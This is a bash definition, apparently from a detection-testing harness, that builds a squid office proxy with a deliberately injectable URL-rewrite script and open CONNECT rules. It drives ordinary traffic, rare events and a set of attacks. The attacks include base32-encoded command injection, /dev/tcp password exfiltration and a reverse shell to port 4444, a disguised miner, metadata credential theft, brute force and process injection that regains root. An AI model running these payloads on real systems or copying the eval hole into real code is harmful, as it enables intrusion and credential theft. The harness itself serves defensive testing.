# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# squid as the proxy of an office: a cache on disk, passwords for the sites within, lists of what is not
# to be seen, a script that sends clients to mirrors, and, on a second port, a shop's own front.
#
# Its configuration lets every port be asked by CONNECT, which is a common mistake. The script that
# rewrites addresses passes a part of them through the shell's eval.

# shellcheck disable=SC2034,SC2154 # lib.bash and rare.bash read these variables, and set others
set=development containers=(squid) port=3128 data_directory=/var/log/squid
configuration_file=/etc/squid/conf.d/office.conf
health=(/usr/sbin/squid -k check)
image_packages=(squid logrotate curl coreutils findutils grep sed gzip dash bash base-files libc-bin netbase
	procps hostname tzdata)
rare_own=(blocked_site new_user new_port broken_configuration origin_gone origin_slow helper_killed
	many_logins cache_rebuilt cache_emptied debug large_download names_slow logs_rotated)

image_prepare() {
	local tree=$1 i
	echo 'proxy:x:13:13:proxy:/bin:/usr/sbin/nologin' >>"$tree/etc/passwd"
	echo 'proxy:x:13:' >>"$tree/etc/group"
	mkdir -p "$tree"/usr/local/{sbin,lib/squid} "$tree"/var/{log,spool}/squid "$tree/etc/squid/conf.d"
	chown 13:13 "$tree"/var/{log,spool}/squid
	install -m 755 "$here/services/squid/start" "$tree/usr/local/sbin/start"
	install -m 755 "$here/services/squid/rewrite" "$tree/usr/local/lib/squid/rewrite"
	for i in $(seq 30); do
		printf 'user%d:%s\n' "$i" "$(openssl passwd -apr1 "secret$i")"
	done >"$tree/etc/squid/passwd"
	printf 'manager:%s\n' "$(openssl passwd -apr1 winter)" >>"$tree/etc/squid/passwd"
	chown 0:13 "$tree/etc/squid/passwd"
	chmod 640 "$tree/etc/squid/passwd"
	for i in $(seq 20); do
		echo "10.88.0.0/24 user$i"
	done >"$tree/etc/squid/office"
	echo '10.88.0.0/24 manager' >>"$tree/etc/squid/office"
	seq -f '.ads%g.peer.example' 300 >"$tree/etc/squid/blocked.sites"
	printf '%s\n' casino '\.exe$' '/tracker/' >"$tree/etc/squid/blocked.words"
	printf 'mirror_%s=http://www.peer.example/%s\n' debian debian pypi pypi npm file >"$tree/etc/squid/mirrors"
	# The package's own squid.conf takes what is in conf.d.
	squid_configuration >"$tree$configuration_file"
}

squid_configuration() {
	cat <<-'CONF'
	visible_hostname proxy.service.example
	pinger_enable off
	shutdown_lifetime 2 seconds
	acl office src 10.88.0.0/24
	acl within dstdomain .intern.peer.example
	acl blocked_sites dstdomain "/etc/squid/blocked.sites"
	acl blocked_words url_regex -i "/etc/squid/blocked.words"
	acl purge method PURGE
	acl large urlpath_regex ^/file/[0-9]{4}
	acl SSL_ports port 1025-65535
	acl shop myportname shop
	auth_param basic program /usr/lib/squid/basic_ncsa_auth /etc/squid/passwd
	auth_param basic children 4 startup=1 idle=1
	auth_param basic realm office
	auth_param basic credentialsttl 10 seconds
	external_acl_type place ttl=10 negative_ttl=5 children-max=3 children-startup=1 %SRC %LOGIN /usr/lib/squid/ext_file_userip_acl -f /etc/squid/office
	acl members external place
	url_rewrite_program /usr/local/lib/squid/rewrite
	url_rewrite_children 3 startup=1 idle=1 concurrency=0
	url_rewrite_access deny CONNECT
	url_rewrite_access deny shop
	url_rewrite_access allow all
	deny_info ERR_ACCESS_DENIED blocked_sites
	deny_info 302:http://www.peer.example/page/1 blocked_words
	http_access allow purge office
	http_access deny blocked_sites
	http_access deny blocked_words
	http_access allow shop
	http_access deny within !members
	http_access allow office
	http_port 8080 accel defaultsite=shop.service.example no-vhost name=shop
	cache_peer 10.88.0.1 parent 8000 0 no-query originserver name=shop login=shop:secret-of-the-shop connect-timeout=3
	cache_peer_access shop allow shop
	cache_peer_access shop deny all
	never_direct allow shop
	cache_mem 4 MB
	maximum_object_size_in_memory 32 KB
	cache_dir ufs /var/spool/squid 16 16 32
	maximum_object_size 8 MB
	cache_swap_low 85
	cache_swap_high 90
	cache_replacement_policy heap LFUDA
	quick_abort_min 64 KB
	range_offset_limit 1 MB
	refresh_pattern ^http://mirror\. 60 50% 1440
	negative_ttl 5 seconds
	connect_timeout 4 seconds
	dns_timeout 4 seconds
	positive_dns_ttl 20 seconds
	negative_dns_ttl 3 seconds
	delay_pools 1
	delay_class 1 1
	delay_access 1 allow large
	delay_access 1 deny all
	delay_parameters 1 4000000/4000000
	forwarded_for delete
	request_header_access Referer deny all
	logformat timed %ts.%03tu %6tr %>a %un %Ss/%03>Hs %<st %rm %ru %Sh/%<a %mt
	access_log daemon:/var/log/squid/access.log timed
	access_log stdio:/var/log/squid/shop.log combined shop
	cache_store_log stdio:/var/log/squid/store.log
	CONF
}

container_fields() {
	arguments=(/usr/local/sbin/start)
	volumes=(/var/log/squid /var/spool/squid)
}

# The sites of the world, and the shop behind the front.
peers() {
	origin_start
	world_begin
}

origin_start() {
	peer_start origin python3 -c "$(cat "$here/services/squid/origin.py")" "$peer_address"
}

# proxied URL [CURL OPTION…]: as a client of the proxy; what is answered goes to nowhere.
proxied() {
	asked "$@" -o /dev/null
}

# asked URL [CURL OPTION…]: the answer on stdout.
asked() {
	local url=$1
	shift
	client curl -sS --max-time 20 -x "http://$own_address:$port" "$@" "$url"
}

# front PATH [CURL OPTION…]: of the shop.
front() {
	local path=$1
	shift
	client curl -sS --max-time 20 -o /dev/null "$@" "http://$own_address:8080$path"
}

ready() {
	proxied http://www.peer.example/page/1 -f && front /products -f
}

# ---- ordinary work ----

request() {
	local n site
	n=$(between 1 40)
	site=http://$(pick www news shop files "site$n").peer.example
	case $((RANDOM % 20)) in
	0 | 1 | 2) proxied "$site/page/[1-$((n / 4 + 1))]" ;;
	3) proxied "$site/file/$(pick 4 20 60 200)/$n" ;;
	4) proxied "http://files.peer.example/file/$(pick 700 1500 3000)/$((n % 6))" ;;
	5) proxied "$site/news/$n" -H "Cache-Control: $(pick max-age=60 max-age=0 no-cache)" ;;
	6) proxied "$site/packed/$n" --compressed ;;
	7) proxied "$site/stream/$((n / 3 + 1))" ;;
	8) proxied "$site/moved/$n" -L ;;
	9) proxied "http://wiki.intern.peer.example/intern/$n" -U "user$((n % 24 + 1)):$(member_password "$n")" ;;
	10) proxied "http://$(pick ads3 ads77 "x.ads$n").peer.example/banner/$n" ;;
	11) proxied "$site/$(pick "tracker/$n" casino "setup$n.exe" "none/$n" "error/$n" "gone/$n")" ;;
	12) proxied "http://$(pick "none$n.example" peer.example:8000/list "peer.example:9$n" peer.example:22)/" ;;
	13) proxied "https://www.peer.example/$(pick "page/$n" "file/200/$n" "packed/$n")" -k ;;
	14) head -c "$(between 10 90000)" /dev/zero | client_stdin curl -sS --max-time 20 -o /dev/null -T - \
		-X "$(pick POST PUT)" -x "http://$own_address:$port" "$site/form/$n" ;;
	15) proxied "http://mirror.peer.example/$(pick debian pypi npm other)/$(pick 4 30 90)/$n" ;;
	16) proxied "$site/picture/$n/$(between 1 9)" ;;
	17) front "/$(pick products basket "product/$n" "search?q=$n")" "${shop_options[RANDOM % 3]}" ;;
	18) client ab -q -r -c "$(between 1 6)" -n "$((n * 2))" -X "$own_address:$port" "$site/page/$n" ;;
	19) odd_request "$n" "$site" ;;
	esac
}

shop_options=(--compressed --http1.0 -dorder=3)

# member_password NUMBER: the user's, or, now and then, a wrong one.
member_password() {
	if chance 85; then
		echo "secret$(($1 % 24 + 1))"
	else
		echo wrong
	fi
}

# odd_request NUMBER SITE: what clients do less often.
odd_request() {
	case $((RANDOM % 6)) in
	0) proxied "$2/page/$1" -I ;;
	1) proxied "http://files.peer.example/file/200/$1" -r "$(pick 0-999 5000-90000 -300)" ;;
	2) proxied "http://files.peer.example/file/3000/$1" --limit-rate 800k --max-time 1 ;;
	3) proxied "$2/page/$1" -X PURGE ;;
	4) proxied "http://wiki.intern.peer.example/intern/[1-9]" -U user3:secret3 ;;
	5) proxied "$2/slow/1" ;;
	esac
}

reload_service() {
	container_signal squid HUP
}

# Another site blocked, another password; the logs' rotation; the cache's figures.
administer() {
	local n logs
	n=$(between 1 20)
	echo ".banner$n.peer.example" >>"$(image_path squid /etc/squid/blocked.sites)"
	sed -i "s,^user$n:.*,user$n:$(openssl passwd -apr1 "secret$n")," "$(image_path squid /etc/squid/passwd)"
	reload_service
	logs=$(volume_path squid /var/log/squid)
	for n in access shop store cache; do
		mv "$logs/$n.log" "$logs/$n.log.1"
	done
	sleep 2
	session squid /usr/sbin/squid -k rotate
	session squid /usr/bin/curl -sS -o /dev/null "http://127.0.0.1:3128/squid-internal-mgr/$(pick info counters storedir)"
}

# ---- rare events ----

# A list of its own, and a page that says why.
rare_blocked_site() {
	keep_file squid /etc/squid/conf.d/games.conf
	keep_file squid /etc/squid/blocked.games
	keep_file squid /usr/share/squid/errors/templates/ERR_GAMES
	undo reload_service
	local etc
	etc=$(image_path squid /etc/squid)
	echo '.games.peer.example' >"$etc/blocked.games"
	echo '<html>No games here: %U</html>' >"$(image_path squid /usr/share/squid/errors/templates)/ERR_GAMES"
	printf 'acl games dstdomain "/etc/squid/blocked.games"\ndeny_info ERR_GAMES games\nhttp_access deny games\n' \
		>"$etc/conf.d/games.conf"
	reload_service
	sleep 3
	proxied http://chess.games.peer.example/page/3
}

rare_new_user() {
	keep_file squid /etc/squid/passwd
	keep_file squid /etc/squid/office
	undo reload_service
	local etc
	etc=$(image_path squid /etc/squid)
	printf 'guest:%s\n' "$(openssl passwd -apr1 guest)" >>"$etc/passwd"
	sed 's/$/ /' "$etc/office" >"$etc/office.new"
	echo '10.88.0.0/24 guest' >>"$etc/office.new"
	mv "$etc/office.new" "$etc/office"
	session squid /usr/sbin/squid -k reconfigure
	sleep 3
	proxied http://wiki.intern.peer.example/intern/3 -U guest:guest
}

rare_new_port() {
	keep_file squid /etc/squid/conf.d/port.conf
	undo reload_service
	echo 'http_port 3129' >"$(image_path squid /etc/squid/conf.d/port.conf)"
	reload_service
	sleep 3
	client curl -sS -o /dev/null -x "http://$own_address:3129" http://www.peer.example/page/2
}

# It is looked at before it is read: the mistake is found.
rare_broken_configuration() {
	local file
	file=$(image_path squid /etc/squid/conf.d/new.conf)
	echo 'http_access permit everybody' >"$file"
	session squid /usr/sbin/squid -k parse
	rm "$file"
	session squid /usr/sbin/squid -k parse
}

rare_origin_gone() {
	peer_stop origin
	peer_stop world
	sleep 12
	origin_start
	world_start
}

# It takes connections and says nothing.
rare_origin_slow() {
	peer_stop world
	peer_start world socat "TCP-LISTEN:8000,bind=$peer_address,reuseaddr,fork" 'SYSTEM:sleep 8'
	front /products --max-time 6
	front /basket --max-time 4
	peer_stop world
	world_start
}

# squid starts them again.
rare_helper_killed() {
	local pid
	for pid in $(tasks_named squid 'basic_ncsa_auth|lib/squid/rewrite|ext_file_userip'); do
		kill -KILL "$pid"
	done
	sleep 2
	proxied http://wiki.intern.peer.example/intern/4 -U user4:secret4
	sleep 3
}

# More at once than one helper can do.
rare_many_logins() {
	local i pids=()
	for i in {1..24}; do
		proxied "http://wiki.intern.peer.example/intern/$i" -U "user$i:secret$i" &
		pids+=($!)
	done
	wait "${pids[@]}" || true
}

# The process that answers: its parent starts it again.
rare_worker_killed() {
	kill -KILL "$(squid_worker)"
	sleep 6
}

squid_worker() {
	tasks_named squid '^\(squid-1\)' | sort -n | head -n 1
}

rare_program() {
	replace_file /usr/sbin/squid
	kill -KILL "$(squid_worker)"
	sleep 6
}

# The process that answers dies with the cache's index half written: it is made from the files.
rare_cache_rebuilt() {
	local spool
	spool=$(volume_path squid /var/spool/squid)
	printf 'nothing' >"$spool/swap.state"
	kill -KILL "$(squid_worker)"
	sleep 6
}

# Objects vanish from the disk.
rare_cache_emptied() {
	session squid /bin/sh -c 'rm -rf /var/spool/squid/00/*/* && du -s /var/spool/squid'
	proxied 'http://files.peer.example/file/200/[1-9]'
}

rare_debug() {
	session squid /usr/sbin/squid -k debug
	sleep 3
	session squid /usr/sbin/squid -k debug
	session squid /usr/bin/tail -n 20 /var/log/squid/cache.log
}

# Larger than what is kept.
rare_large_download() {
	proxied http://files.peer.example/file/20000/1
	proxied http://files.peer.example/file/7900/2
}

rare_names_slow() {
	kill -STOP "${peer_pid[resolver]}"
	proxied http://late.peer.example/page/1 --max-time 8
	kill -CONT "${peer_pid[resolver]}"
}

# As the package's daily job does it.
rare_logs_rotated() {
	session squid /usr/sbin/logrotate -f -s /tmp/logrotate.status /etc/logrotate.d/squid
}

# ---- attacks ----

# The process that answers runs as another user, and can take root's rights back.
squid_master() {
	tasks_named squid '^/usr/sbin/squid --foreground' | sort -n | head -n 1
}

# mirror_runs COMMANDS: by the name of a mirror, which the script that rewrites addresses gives to eval.
# shellcheck disable=SC2016 # the script's shell
mirror_runs() {
	proxied "http://mirror.peer.example/x;echo\${IFS}$(base32 -w 0 <<<"$1")|base32\${IFS}-d|bash/y" -g
}

attack_command_injection() {
	harm exec /usr/bin/base32
	harm read /etc/squid/passwd
	harm connect "$peer_address:4444"
	thief_begin
	mirror_runs "cat /etc/squid/passwd >/dev/tcp/$peer_address/4444"
	thief_got '^manager:'
}

attack_reverse_shell() {
	harm exec /usr/bin/bash
	harm exec /usr/bin/id
	harm read /etc/squid/conf.d/office.conf
	harm connect "$peer_address:4444"
	thief_shell 'id; cat /etc/squid/conf.d/office.conf; ls -la /var/log/squid; exit'
	mirror_runs "bash -i >/dev/tcp/$peer_address/4444 2>&1 <&1"
	thief_got 'secret-of-the-shop'
}

attack_miner() {
	harm write /tmp/.kworkerd
	harm exec /tmp/.kworkerd
	harm connect "$peer_address:3333"
	armoury_begin
	mirror_runs "($(miner_commands /tmp/.kworkerd)) >/dev/null 2>&1"
	pool_got
}

# The network within, by CONNECT and by addresses with ports.
attack_scan() {
	local p
	harm connect "$peer_address:5432"
	harm connect "$peer_address:6379"
	for p in 21 3306 5432 5900 6379 8000 8443 {9000..9030} 27017; do
		! client curl -sS -p -o /dev/null --max-time 2 -x "http://$own_address:$port" \
			"http://$peer_address:$p/" || echo "open $p"
	done | grep -x 'open 8000'
}

# What the cloud tells the machine, and nobody else.
attack_metadata() {
	harm connect 169.254.169.254:80
	asked http://169.254.169.254/latest/meta-data/iam/security-credentials/proxy | grep metadata-secret-key
}

attack_brute_force() {
	local p
	harm call accept
	harm call write
	for p in 123456 password qwerty letmein dragon monkey {1..80} football iloveyou master summer winter; do
		! asked http://wiki.intern.peer.example/intern/7 -U "manager:$p" | grep -c '<p>7 ' || return 0
	done
	return 1
}

attack_code_shell() {
	harm exec /usr/bin/dash
	harm exec /usr/bin/id
	inject_pid "$(squid_worker)" 'call (int) system("id >/tmp/out; cat /etc/passwd /etc/squid/passwd >>/tmp/out")'
	grep -q uid=13 "$(image_path squid /tmp/out)"
}

# Code inside the process that answers: it takes root's rights back, and starts no program.
attack_code_shadow() {
	harm read /etc/shadow
	inject_pid "$(squid_worker)" 'print (int) seteuid(0)' 'print (int) open("/etc/shadow", 0)' \
		'print (int) seteuid(13)' | grep -cE '= [0-9]{2,}$'
}

# The passwords go to the thief.
attack_code_connect() {
	harm read /etc/squid/passwd
	harm connect "$peer_address:4444"
	thief_begin
	code_sends "$(squid_worker)" /etc/squid/passwd 4444
	thief_got '^manager:'
}

# Code inside takes root's rights, and puts a line into the script that each new helper runs.
attack_script_replaced() {
	harm exec /usr/bin/sed
	harm rename /usr/local/lib/squid/rewrite
	harm connect "$peer_address:4444"
	thief_begin
	inject_pid "$(squid_worker)" 'print (int) setresuid(0, 0, 0)' \
		"call (int) system(\"sed -i '3icurl -s --max-time 3 -T /etc/squid/passwd http://$peer_address:4444/ >/dev/null' \
/usr/local/lib/squid/rewrite; (sleep 1; kill -HUP 1) &\")" 'print (int) setresuid(13, 13, 0)'
	thief_got '^manager:'
}

# Ways out of a container, each tried by code inside the first squid process, which is root.
attack_escape() {
	code_escapes "$(squid_master)"
}

# ---- adaptive: known calls, files and peers only ----

# Every page within, by one who has a password.
adaptive_crawl() {
	harm connect "$peer_address:80"
	harm call accept
	asked 'http://wiki.intern.peer.example/intern/[1-40]' -U user7:secret7 | grep -c '<p>' >"$stage/answer"
	[ "$(cat "$stage/answer")" -gt 5000 ]
}

# Stolen data leave the office through the proxy, to a site that everybody uses.
adaptive_exfiltration() {
	local i
	harm connect "$peer_address:80"
	harm call read
	for i in {1..30}; do
		head -c 200000 /dev/urandom | client_stdin curl -sS --max-time 20 -o /dev/null -f --data-binary @- \
			-x "http://$own_address:$port" "http://files.peer.example/stolen/$i" || return
	done
	grep -q 'bytes at /stolen/30' "$stage/peer-origin.log"
}

# Whatever the cache has is deleted, by one who may.
adaptive_purge() {
	local i
	harm unlink '/var/spool/squid/*'
	for i in {0..12}; do
		proxied "http://files.peer.example/file/200/$i"
	done
	asked 'http://files.peer.example/file/200/[0-12]' -X PURGE -o /dev/null -w '%{http_code}\n' |
		grep -c 200 >"$stage/answer"
	[ "$(cat "$stage/answer")" -ge 10 ]
}

# Code inside the process that answers sends its configuration, with a password, to the shop.
adaptive_shop() {
	harm read /etc/squid/conf.d/office.conf
	harm connect "$peer_address:8000"
	code_sends "$(squid_worker)" /etc/squid/conf.d/office.conf 8000
	# Its log has the first line, which is no request.
	until_true 10 grep -q visible_hostname "$stage/peer-world.log"
}
